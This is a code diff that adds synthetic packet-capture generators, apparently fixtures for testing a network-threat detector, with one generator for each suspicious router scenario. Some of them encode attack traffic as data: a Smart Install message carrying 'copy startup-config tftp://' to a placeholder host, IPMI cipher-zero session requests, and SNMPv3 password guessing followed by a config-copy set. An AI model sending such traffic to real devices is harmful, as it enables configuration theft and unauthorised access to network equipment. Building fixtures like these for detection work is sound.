@@ -325,6 +325,124 @@ def silent_day():
     yield from look_ups(MIDNIGHT + 86400 + 5, 6)
 
 
+def tacacs_login(server, sport, hidden):
+    """A login by TACACS+ (RFC 8907 §5): start, question for the password, the password, pass."""
+    def packet(number, body):
+        return struct.pack('>BBBBII', 0xc0, 1, number, 0 if hidden else 1, sport, len(body)) + body
+
+    start = struct.pack('>BBBBBBBB', 1, 1, 1, 1, 5, 4, 4, 0) + b'noc-1' + b'tty0' + b'NMS1'
+    reply = struct.pack('>BBHH', 5, 1, 9, 0) + b'Password:'
+    more = struct.pack('>HHB', 6, 0, 0) + b'secret'
+    done = struct.pack('>BBHH', 1, 0, 0, 0)
+    texts = [start, reply, more, done]
+    if hidden:
+        texts = [bytes(b ^ stable('%d %d %d' % (sport, i, k)) & 0xff for k, b in enumerate(t)) for i, t in enumerate(texts)]
+    return TcpTalk(ROUTER, server, sport, 49, 11000).run(T0, [(i % 2, packet(i + 1, t)) for i, t in enumerate(texts)])
+
+
+def login_in_clear():
+    """The router has logins checked by TACACS+: by a server inside, hidden; by one on the Internet, in clear text."""
+    yield from tacacs_login('192.0.2.50', 40100, True)
+    yield from tacacs_login(CLOUD, 40101, False)
+
+
+def snmp(kind, oid, value, version=1):
+    """A message about one object; of a set request what it is to be."""
+    body = b'\x2b' + b''.join(bytes([arc]) if arc < 128 else bytes([0x80 | arc >> 7, arc & 127]) for arc in oid[2:])
+    pdu = ber(kind, ber(2, b'\x2a') + ber(2, b'\0') + ber(2, b'\0') + ber(0x30, ber(0x30, ber(6, body) + value)))
+    if version == 1:
+        return ber(0x30, ber(2, b'\1') + ber(4, b'example') + pdu)
+    head = ber(2, b'\x07') + ber(2, b'\5\xc0') + ber(4, b'\0') + ber(2, b'\3')
+    return ber(0x30, ber(2, b'\3') + ber(0x30, head) + ber(4, b'') + ber(0x30, ber(4, b'') + ber(4, b'') + pdu))
+
+
+def snmp_set():
+    """A host that nobody declared guesses a password of SNMP version 3 at the router, then sets its table of copies; the element manager asks."""
+    def both(at, src, sport, question, answer):
+        yield at, frame(src, ROUTER, udp(src, ROUTER, sport, 161, question))
+        yield at + 0.001, frame(ROUTER, src, udp(ROUTER, src, 161, sport, answer))
+
+    wrong, asked, copies = (1, 3, 6, 1, 6, 3, 15, 1, 1, 5, 0), (1, 3, 6, 1, 2, 1, 1, 3, 0), (1, 3, 6, 1, 4, 1, 9, 9, 96, 1, 1, 1, 1, 14, 7)
+    for i in range(20):
+        yield from both(T0 + i, GUEST, 40102, snmp(0xa0, asked, ber(5, b''), 3), snmp(0xa8, wrong, ber(0x41, bytes([i + 1])), 3))
+    yield from both(T0 + 30, GUEST, 40103, snmp(0xa3, copies, ber(2, b'\4')), snmp(0xa2, copies, ber(2, b'\4')))
+    for i in range(20):
+        yield from both(T0 + 60 + i, EMS, 40104, snmp(0xa0, asked, ber(5, b'')), snmp(0xa2, asked, ber(0x43, b'\1')))
+
+
+def ipmi_cipher_zero():
+    """A host that nobody declared asks the router's management processor for a session, with a proof of who it is, then with none."""
+    def session(at, sport, algorithm):
+        ask = bytes.fromhex('0600ff07' '0610' '00000000' '00000000' '2000' '00000000a4a3a2a0') + bytes([0, 0, 0, 8, algorithm, 0, 0, 0])
+        ask += bytes([1, 0, 0, 8, algorithm, 0, 0, 0, 2, 0, 0, 8, algorithm, 0, 0, 0])
+        yield at, frame(GUEST, ROUTER, udp(GUEST, ROUTER, sport, 623, ask))
+        answer = bytes.fromhex('0600ff07' '0611' '00000000' '00000000' '2400' '00000400a4a3a2a0' '00010203') + ask[-24:]
+        yield at + 0.001, frame(ROUTER, GUEST, udp(ROUTER, GUEST, 623, sport, answer))
+
+    yield from session(T0, 40105, 1)
+    yield from session(T0 + 10, 40106, 0)
+
+
+def smart_install_inside():
+    """A host that nobody declared asks the router by Smart Install for its configuration."""
+    probe, answer = bytes.fromhex('000000010000000100000004000000080000000100000000'), bytes.fromhex('000000040000000000000003000000080000000100000000')
+    copy = struct.pack('>IIII', 1, 1, 8, 48) + b'copy startup-config tftp://192.0.2.200/r1\0'.ljust(48, b'\0')
+    return TcpTalk(GUEST, ROUTER, 40107, 4786, 12000).run(T0, [(0, probe), (1, answer), (0, copy)])
+
+
+def cwmp():
+    """Customer equipment reports by CWMP (TR-069) in clear text: to a server on the Internet, and to the element manager."""
+    def inform(server, sport):
+        body = (b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-2"><soap:Header>'
+                b'<cwmp:ID>1</cwmp:ID></soap:Header><soap:Body><cwmp:Inform><MaxEnvelopes>1</MaxEnvelopes></cwmp:Inform></soap:Body></soap:Envelope>')
+        head = b'POST /acs HTTP/1.1\r\nHost: acs.example\r\nContent-Type: text/xml\r\nSOAPAction: \r\nContent-Length: %d\r\n\r\n' % len(body)
+        return TcpTalk(GUEST, server, sport, 7547, 13000).run(T0, [(0, head), (0, body), (1, b'HTTP/1.1 204 No Content\r\n\r\n')])
+
+    yield from inform(CLOUD, 40108)
+    yield from inform(EMS, 40109)
+
+
+def shell_turned_around():
+    """A host that nobody declared calls one on the Internet, which then logs in to it by SSH; another call is the ordinary way round."""
+    def packet(number, body):
+        padding = (-(6 + len(body)) - 4) % 8 + 4
+        return struct.pack('>IBB', 2 + len(body) + padding, padding, number) + body + bytes(padding)
+
+    def talk(sport, client):
+        server = 1 - client
+        methods = packet(20, bytes(16) + b'\0\0\0\x11curve25519-sha256' + bytes(41))
+        return TcpTalk(GUEST, CLOUD, sport, 4334 if client else 22, 14000).run(T0 + client, [
+            (client, b'SSH-2.0-client\r\n'), (server, b'SSH-2.0-server\r\n'), (client, methods), (server, methods),
+            (client, packet(30, struct.pack('>I', 32) + bytes(32))), (server, packet(31, bytes(200))), (client, packet(21, b''))])
+
+    yield from talk(40110, 0)
+    yield from talk(40111, 1)
+
+
+def bgp_stranger():
+    """The router speaks BGP with a host on the Internet that nobody ordered."""
+    def message(kind, body=b''):
+        return b'\xff' * 16 + struct.pack('>HB', 19 + len(body), kind) + body
+
+    def opened(number, router):
+        return message(1, struct.pack('>BHH4sB', 4, number, 90, address(router), 0))
+
+    return TcpTalk(CLOUD, ROUTER, 40112, 179, 15000).run(T0, [
+        (0, opened(64666, CLOUD)), (1, opened(64500, ROUTER)), (0, message(4)), (1, message(4)), (0, message(2, bytes(4)))])
+
+
+def six_in_four():
+    """The router sends IPv6 inside IPv4 to a host on the Internet, which never answers; one packet goes to another host."""
+    def packet(dst, i):
+        inner = struct.pack('>IHBB', 6 << 28, 8 + 1000, 17, 64) + address('2001:db8:1::1') + address('2001:db8:bad::9')
+        inner += struct.pack('>HHHH', 40113, 40113, 8 + 1000, 0xffff) + bytes(1000)
+        return T0 + i, frame(ROUTER, dst, ipv4(ROUTER, dst, 41, inner))
+
+    for i in range(12):
+        yield packet(CLOUD, i)
+    yield packet(TAC, 20)
+
+
 CAPTURES = {
     'ngap': ngap,
     'ngap-second': ngap_second,
@@ -352,6 +470,14 @@ CAPTURES = {
     'clock-right': clock_right,
     'midnight': midnight,
     'silent-day': silent_day,
+    'login-in-clear': login_in_clear,
+    'snmp-set': snmp_set,
+    'ipmi-cipher-zero': ipmi_cipher_zero,
+    'smart-install-inside': smart_install_inside,
+    'cwmp': cwmp,
+    'shell-turned-around': shell_turned_around,
+    'bgp-stranger': bgp_stranger,
+    'six-in-four': six_in_four,
 }
 AS_THEY_COME = ('clock-set', 'clock-right')  # of all others the packets are in order of time
 
